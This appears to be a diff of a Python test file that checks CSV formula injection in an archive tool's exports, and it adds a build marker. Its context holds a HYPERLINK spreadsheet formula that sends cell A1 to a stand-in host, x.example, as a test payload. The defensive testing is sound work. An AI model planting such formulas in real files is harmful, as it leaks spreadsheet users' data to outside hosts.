@@ -32,6 +32,9 @@ from kparchive.yamlio import load_yaml
 
 from projects import BRUSSELS_2018, IDEX_2011, KINSHASA_2011, NAMIBIA_2009, VIRTUAL_2021, build_index, make_project
 
+# Builds of its own: the fixture corpus with formula-like values (build_index), its CSV opened in LibreOffice.
+pytestmark = pytest.mark.build
+
 HYPERLINK = '=HYPERLINK("http://x.example/?"&A1,"click")'  # a live link would send cell A1 to x.example
 # Where each payload goes: (file, path of keys, value), and the CSV column and row (statement) it shows in.
 PAYLOADS = [
